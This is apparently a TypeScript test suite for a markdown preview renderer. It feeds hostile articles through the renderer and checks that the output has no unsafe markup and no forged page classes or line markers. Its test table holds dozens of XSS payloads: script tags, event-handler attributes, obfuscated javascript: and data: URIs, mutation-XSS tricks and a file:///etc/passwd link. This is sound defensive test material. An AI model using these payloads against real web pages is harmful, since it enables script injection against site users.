import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { analyze, DEFAULT_CONFIG } from '../../../src/core';
import { renderArticle, type RenderOptions } from '../../../src/core/render';
import { tagsOf, unsafeParts, type Tag } from './htmlShape';

const RESOURCE = 'https://resource.test/';
const OPTIONS: RenderOptions = { locale: 'en-US', allowRemoteImages: false, resolveResource: (href) => RESOURCE + href };

function bodyOf(markdown: string, options: Partial<RenderOptions> = {}): string {
  const text = `---\ntitle: Hostile\ndate: 2020-11-06\n---\n${markdown}\n`;
  return renderArticle(analyze({ path: '/site/hostile.md', text }, DEFAULT_CONFIG), { ...OPTIONS, ...options }).bodyHtml;
}

function assertSafe(html: string, options: { allowRemoteImages?: boolean } = {}): void {
  assert.deepEqual(unsafeParts(html, { resourcePrefix: RESOURCE, ...options }), [], html);
  // Belt and braces on the raw text, whatever the scanner thinks.
  assert.ok(!/<(script|style|iframe|object|embed|meta|base|link|form|input|button|svg|math|textarea|frame)\b/i.test(html), html);
  assert.ok(!/\son[a-z]+\s*=/i.test(html), html);
  // Scheme names may appear as visible text ("[x](javascript:…)" is shown literally), never inside a tag.
  for (const tag of html.match(/<[^>]*>/g) ?? []) assert.ok(!/(javascript|vbscript)\s*:|data:text/i.test(tag), tag);
}

const CASES: Record<string, string> = {
  'script tag': '<script>window.__pwned = 1</script>',
  'script with type': '<script type="module">import("https://example.com/x.js")</script>',
  'img onerror': '<img src=x onerror="window.__pwned=1">',
  'img onerror unquoted in markdown paragraph': 'text <img src=x onerror=alert(1)> text',
  'svg script': '<svg><script>window.__pwned=1</script></svg>',
  'svg onload': '<svg onload="window.__pwned=1"><circle r="4"/></svg>',
  'svg use href': '<svg><use href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/></svg>',
  iframe: '<iframe src="https://example.com"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  object: '<object data="https://example.com/x.swf"></object>',
  embed: '<embed src="javascript:alert(1)">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://example.com">',
  base: '<base href="https://example.com/">',
  'link stylesheet': '<link rel="stylesheet" href="https://example.com/x.css">',
  form: '<form action="https://example.com"><input name="q" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">Go</button></form>',
  'style import': '<style>@import url(https://example.com/x.css); body{background:url(https://example.com/t.png)}</style>',
  'style attribute': '<p style="background:url(https://example.com/t.png)">x</p>',
  'javascript link': '<a href="javascript:alert(1)">x</a>',
  'javascript upper case': '<a href="JAVASCRIPT:alert(1)">x</a>',
  'javascript tab entity': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript newline entity': '<a href="jav&#10;ascript:alert(1)">x</a>',
  'javascript decimal entity': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'javascript hex entity no semicolon': '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  'javascript leading control': '<a href="&#14;javascript:alert(1)">x</a>',
  'javascript leading space': '<a href="  javascript:alert(1)">x</a>',
  'javascript null byte': '<a href="java\u0000script:alert(1)">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'data html link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'data html link plain': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'protocol relative': '<a href="//example.com/x">x</a>',
  'markdown javascript link': '[x](javascript:alert(1))',
  'markdown encoded javascript link': '[x](&#x6A;avascript:alert(1))',
  'markdown percent-encoded scheme': '[x](javascript%3Aalert(1))',
  'markdown data link': '[x](data:text/html,hello)',
  'markdown image javascript': '![x](javascript:alert(1))',
  'autolink javascript': '<javascript:alert(1)>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mathml mutation': '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  'comment breakout': '<!--><img src=x onerror=alert(1)>-->',
  'textarea breakout': '<textarea><img src=x onerror=alert(1)></textarea>',
  'xmp breakout': '<xmp><img src=x onerror=alert(1)></xmp>',
  'title breakout': '<title><img src=x onerror=alert(1)></title>',
  'details ontoggle': '<details open ontoggle="alert(1)"><summary>s</summary>x</details>',
  'frameset': '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  'template': '<template><script>alert(1)</script></template>',
  'srcset': '<img srcset="https://example.com/a.png 1x" src="a.png">',
  'background attribute': '<table background="https://example.com/t.png"><tr><td>x</td></tr></table>',
  'id clobbering': '<img name="getElementById" id="postdesk-body" src="a.png">',
  'command uri': '<a href="command:workbench.action.terminal.new">x</a>',
  'file uri': '<a href="file:///etc/passwd">x</a>',
  'vscode uri': '<a href="vscode://settings">x</a>',
};

describe('renderArticle with hostile articles', () => {
  for (const [name, markdown] of Object.entries(CASES)) {
    it(`neutralises ${name}`, () => assertSafe(bodyOf(markdown)));
  }

  it('keeps the text around hostile markup', () => {
    const html = bodyOf('Before <script>alert(1)</script> after.\n\n<iframe>fallback</iframe>\n\nEnd.');
    assert.match(html, /Before\s+after\./);
    assert.match(html, /End\./);
  });

  it('loads no remote resource without the setting, not even through CSS', () => {
    const html = bodyOf('![t](https://example.com/t.png) <img src="https://example.com/u.png"> <p style="background:url(https://example.com/v.png)">x</p>');
    assert.ok(!tagsOf(html).some((t) => (t.attributes.get('src') ?? '').includes('example.com')), html);
    assert.ok(!html.includes('url('), html);
  });

  it('renders the hostile fixture article safely, header fields as plain strings', () => {
    const path = join(__dirname, '../../fixtures/workspace/hostile/hostile-article.md');
    const analysis = analyze({ path, text: readFileSync(path, 'utf8') }, DEFAULT_CONFIG);
    const r = renderArticle(analysis, OPTIONS);
    assertSafe(r.bodyHtml);
    // The header is data for textContent, not HTML: it keeps the author's characters.
    assert.ok(r.title.includes('<img src=x'), r.title);
    assert.match(r.bodyHtml, /<img src="https:\/\/resource.test\/pixel.png" alt="a local picture" \/>/);
    assert.match(r.bodyHtml, /data-href="..\/_posts\/2019-02-14-magic-mirror.md"/);
    assert.match(r.bodyHtml, /<a href="https:\/\/example.com\/article">an outside link<\/a>/);
    assert.equal(r.markers.length, 1);
  });

  it('never emits unsafe markup for arbitrary mixes of hostile fragments (property)', () => {
    const fragments = [...Object.values(CASES), '<', '>', '"', "'", '=', ' ', '\n', '\n\n', '<a href="', '<img src=', 'javascript:', '&#', 'x;', '<div>', '</div>', '<p', '**', '`', '```\n', '[a](', ')', '<!--', '-->', 'Advertisement\n', '<style>', '<script>'];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 12 }), fc.boolean(), (parts, allowRemoteImages) => {
        const html = bodyOf(parts.join(''), { allowRemoteImages });
        assert.deepEqual(unsafeParts(html, { resourcePrefix: RESOURCE, allowRemoteImages }), [], html);
      }),
      { numRuns: 400 },
    );
  });

  it('never throws and stays safe on arbitrary text (property)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (text) => {
        const r = renderArticle(analyze({ path: '/x.md', text }, DEFAULT_CONFIG), OPTIONS);
        assert.deepEqual(unsafeParts(r.bodyHtml, { resourcePrefix: RESOURCE }), [], r.bodyHtml);
      }),
      { numRuns: 300 },
    );
  });
});

// The page's script and stylesheet give meaning to a few names: the classes
// `postdesk-*` (a `.postdesk-marker` is counted and clickable as a stray
// marker band) and `data-line` (scroll sync, reveal on click). Only the
// renderer may write them; whatever the article's raw HTML says about them is
// dropped. Article ids are prefixed (`user-content-`) and links' `data-href`
// is always recomputed from `href`, so those cannot be forged either.
describe('renderArticle: the article cannot forge the page\'s own markup', () => {
  function render(markdown: string) {
    const text = `---\ntitle: Forged\ndate: 2020-11-06\n---\n${markdown}\n`;
    return renderArticle(analyze({ path: '/site/forged.md', text }, DEFAULT_CONFIG), OPTIONS);
  }

  /** Elements whose class list holds `name`. */
  function withClass(html: string, name: string): Tag[] {
    return tagsOf(html).filter((t) => (t.attributes.get('class') ?? '').split(/\s+/).includes(name));
  }

  /** Every class name in the output. */
  function classes(html: string): string[] {
    return tagsOf(html).flatMap((t) => (t.attributes.get('class') ?? '').split(/\s+/).filter(Boolean));
  }

  function dataLines(html: string): number[] {
    return tagsOf(html).filter((t) => t.attributes.has('data-line')).map((t) => Number(t.attributes.get('data-line')));
  }

  // Every class the preview's renderer, stylesheet (media/preview.css) and page script use.
  const PAGE_CLASSES = [
    'postdesk-marker', 'postdesk-blocked-image', 'postdesk-align-left', 'postdesk-align-center', 'postdesk-align-right',
    'postdesk-title', 'postdesk-meta', 'postdesk-badge', 'postdesk-badge-undated', 'postdesk-badge-scheduled', 'postdesk-date',
    'postdesk-author', 'postdesk-stats', 'postdesk-tags', 'postdesk-tag', 'postdesk-locked', 'postdesk-header', 'postdesk-body',
    'postdesk-preview', 'postdesk-cover', 'postdesk-cover-image', 'postdesk-cover-missing', 'postdesk-categories', 'postdesk-category', 'postdesk-description',
  ];

  it('drops a forged stray-marker band from raw HTML (block and inline)', () => {
    const r = render('Intro.\n\n<div class="postdesk-marker" data-line="4">Advertisement — stray marker, not part of the article</div>\n\nText <span class="postdesk-marker">x</span> and <div class="note postdesk-marker">y</div>.');
    assert.deepEqual(r.markers, []);
    assert.deepEqual(withClass(r.bodyHtml, 'postdesk-marker'), [], r.bodyHtml);
    assert.match(r.bodyHtml, /<div>Advertisement — stray marker, not part of the article<\/div>/, 'the text stays, as plain text');
  });

  for (const name of PAGE_CLASSES) {
    it(`drops the page's class ${name} wherever the article writes it`, () => {
      const html = render(
        `<div class="${name}">a</div>\n\n<p>b <span class="x ${name}">c</span> <code class="language-js ${name}">d</code></p>\n\n` +
        `<table><tr><th class="${name}">e</th><td class="${name}">f</td></tr></table>\n\n<p class="${name.toUpperCase()}">g</p>`,
      ).bodyHtml;
      assert.deepEqual(classes(html).filter((c) => c.toLowerCase().startsWith('postdesk-')), [], html);
      assert.match(html, /<code class="language-js">d<\/code>/, "the article's own language class stays");
    });
  }

  it('drops forged data-line attributes, in a raw HTML block and inline', () => {
    const html = render('<p data-line="9999">forged</p>\n\nA <span data-line="0">b</span> c <img src="a.png" alt="i" data-line="77">').bodyHtml;
    assert.ok(!/data-line="(9999|0|77)"/.test(html), html);
    // The renderer's own line for the paragraph with inline HTML is still there.
    assert.deepEqual(dataLines(html), [6], html);
  });

  it('keeps the renderer\'s own bands, lines and classes inside raw HTML, next to forged ones', () => {
    const r = render([
      '<details><summary>More</summary>',
      '',
      'Inside **bold**.',
      '',
      'Advertisement',
      '',
      '<div class="postdesk-marker" data-line="5">forged band</div>',
      '',
      '| a | b |',
      '|:-|-:|',
      '| 1 | 2 |',
      '',
      '</details>',
    ].join('\n'));
    assert.deepEqual(r.markers.map((m) => m.line), [8]);
    const bands = withClass(r.bodyHtml, 'postdesk-marker');
    assert.deepEqual(bands.map((b) => b.attributes.get('data-line')), ['8'], r.bodyHtml);
    assert.match(r.bodyHtml, /<div>forged band<\/div>/);
    assert.match(r.bodyHtml, /<p data-line="6">Inside <strong>bold<\/strong>.<\/p>/);
    assert.match(r.bodyHtml, /<th class="postdesk-align-left">a<\/th>/);
    assert.match(r.bodyHtml, /<td class="postdesk-align-right">2<\/td>/);
    assert.ok(!dataLines(r.bodyHtml).includes(5), r.bodyHtml);
  });

  it('still turns HTML alignment into the page\'s alignment classes, and keeps blocked-image placeholders', () => {
    const html = render('<table><tr><td align="right">1</td><td style="text-align:center">2</td></tr></table>\n\n<p><img src="https://example.com/x.png" alt="remote"></p>').bodyHtml;
    assert.match(html, /<td class="postdesk-align-right">1<\/td>/);
    assert.match(html, /<td class="postdesk-align-center">2<\/td>/);
    assert.equal(withClass(html, 'postdesk-blocked-image').length, 1, html);
  });

  it('never shows a band or a line the renderer did not write, whatever the mix (property)', () => {
    const fragments = [
      '<div class="postdesk-marker">', '<div class="postdesk-marker" data-line="1">', '<span class="postdesk-marker">x</span>', '<p data-line="9999">',
      '<p data-line="0">', '<td class="postdesk-align-right">', '<div ', '<div title="', '"', '>', '</div>', '</p>', '<details>', '</details>',
      'Advertisement', 'text', '\n', '\n\n', '| a |\n|--|\n| b |', '**', '<!--', '-->', '`', '```\n', '<img src=x>',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 14 }), (parts) => {
        const r = render(parts.join(''));
        const markerLines = new Set(r.markers.map((m) => String(m.line)));
        const bands = withClass(r.bodyHtml, 'postdesk-marker').map((b) => b.attributes.get('data-line') ?? '');
        assert.ok(bands.every((line) => markerLines.has(line)), `bands ${JSON.stringify(bands)} for markers ${JSON.stringify([...markerLines])}\n${r.bodyHtml}`);
        assert.equal(new Set(bands).size, bands.length, `one band per marker line\n${r.bodyHtml}`);
        // Lines the renderer writes are in document order and within the document.
        const lines = dataLines(r.bodyHtml);
        const lineCount = parts.join('').split('\n').length + 4;
        assert.ok(lines.every((line, i) => line >= 4 && line < lineCount && (i === 0 || line >= (lines[i - 1] ?? 0))), `data-line ${JSON.stringify(lines)}\n${r.bodyHtml}`);
      }),
      { numRuns: 400 },
    );
  });
});
